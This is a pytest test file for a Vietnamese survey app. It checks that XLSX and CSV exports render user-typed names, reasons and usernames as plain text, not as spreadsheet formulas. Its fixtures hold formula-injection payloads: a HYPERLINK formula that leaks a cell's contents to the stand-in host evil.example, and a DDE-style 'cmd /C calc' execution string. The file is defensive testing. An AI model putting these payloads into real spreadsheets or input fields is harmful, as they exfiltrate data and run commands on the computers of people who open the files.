"""Texts people typed (reasons, campaign and hamlet names, usernames) leave every XLSX and CSV as text,
never as a formula (issue #18: spreadsheet formula injection); the figures we count stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from helpers import all_satisfied, campaign_of
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.extensions import db
from survey_app.models import AdminUnit, UnitLevel
from survey_app.services.staff.users import change_password, create_or_reset_user
from survey_app.services.survey.responses import submit_response

CAMPAIGN = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem kết quả")'
REASONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
HAMLETS = ["=1+2 Thôn Yên", "+Thôn Phúc", "-Thôn Hòa", "@Thôn Tân", "\tThôn Đông", "Thôn Nam Hà", "=Thôn Long"]


@pytest.fixture
def typed(app, demo):
    """The demo with a formula-like campaign name and hamlet names, and every household's form (three with
    formula-like reasons), so each hamlet has enough forms to appear in the open data too."""
    with app.app_context():
        campaign = campaign_of(demo)
        campaign.name = CAMPAIGN
        hamlets = db.session.execute(select(AdminUnit).where(
            AdminUnit.parent_id == campaign.commune_id, AdminUnit.level == UnitLevel.HAMLET)
            .order_by(AdminUnit.id)).scalars().all()
        for hamlet, name in zip(hamlets, HAMLETS, strict=True):
            hamlet.name = name
        db.session.commit()
        for n, code in enumerate(demo["codes"]):
            reason = REASONS[n] if n < len(REASONS) else ""
            submit_response(all_satisfied(campaign, except_position=2 if reason else None, reason=reason),
                            channel="web", code=code)
        province = campaign.commune.parent.code
        db.session.remove()
    return {"campaign_id": demo["campaign_id"], "province": province, "households": len(demo["codes"])}


def _cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_campaign_xlsx_shows_typed_texts_as_typed_and_keeps_figures_numeric(typed, staff_client):
    book = load_workbook(io.BytesIO(staff_client.get(f"/staff/campaigns/{typed['campaign_id']}/report.xlsx").data))
    assert [c.coordinate for c in _cells(book) if c.data_type == "f"] == []
    facts = {r[0].value: r[1] for r in book["Tổng hợp"].iter_rows() if len(r) > 1}
    assert facts["Đợt lấy ý kiến"].value == CAMPAIGN and facts["Đợt lấy ý kiến"].data_type == "s"
    assert facts["Đợt lấy ý kiến"].quotePrefix  # Excel keeps it text even when someone edits the cell
    assert facts["Số phiếu thu về"].value == typed["households"]
    assert facts["Số phiếu thu về"].data_type == facts["Tỷ lệ hài lòng chung (%)"].data_type == "n"
    assert sorted(r[0] for r in list(book["Theo thôn"].iter_rows(values_only=True))[1:]) == sorted(HAMLETS)
    reasons = list(book["Lý do chưa hài lòng"].iter_rows(values_only=True))[1:]
    assert [(r[1], r[2]) for r in reasons] == [(3, " | ".join(REASONS))]


def test_the_province_xlsx_shows_the_campaign_name_as_typed(typed, staff_client):
    book = load_workbook(io.BytesIO(staff_client.get(f"/staff/province/{typed['province']}/export.xlsx").data))
    assert [c.coordinate for c in _cells(book) if c.data_type == "f"] == []
    row = next(r for r in book.active.iter_rows(values_only=True) if r[4] == CAMPAIGN)
    assert row[5:8] == (typed["households"], typed["households"], typed["households"])


def test_csv_exports_prefix_formula_like_texts_with_an_apostrophe(app, typed, staff_client):
    text = staff_client.get(f"/staff/campaigns/{typed['campaign_id']}/report.csv").get_data(as_text=True)
    rows = [r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if r["scope"] == "hamlet"]
    expected = sorted(h if h.startswith("Thôn") else "'" + h for h in HAMLETS)
    assert sorted({r["hamlet"] for r in rows}) == expected
    assert all(int(r["returned"]) == 8 for r in rows)  # the counts are still plain numbers

    printed = app.test_cli_runner().invoke(args=["report", "--campaign", str(typed["campaign_id"]), "--format", "csv"])
    assert printed.exit_code == 0, printed.output
    names = {r[0] for r in csv.reader(io.StringIO(printed.output)) if r}
    assert set(expected) <= names and not names & {h for h in HAMLETS if not h.startswith("Thôn")}


def test_the_audit_csv_writes_a_formula_like_username_as_text(app, staff_client):
    with app.app_context():
        user, _ = create_or_reset_user("-1+1", role="admin", unit=None)  # the account form allows a leading "-"
        change_password(user, "mat-khau-moi-456")  # an audited action of that account
    text = staff_client.get("/staff/audit.csv").get_data(as_text=True)
    assert "'-1+1" in {r["username"] for r in csv.DictReader(io.StringIO(text))}
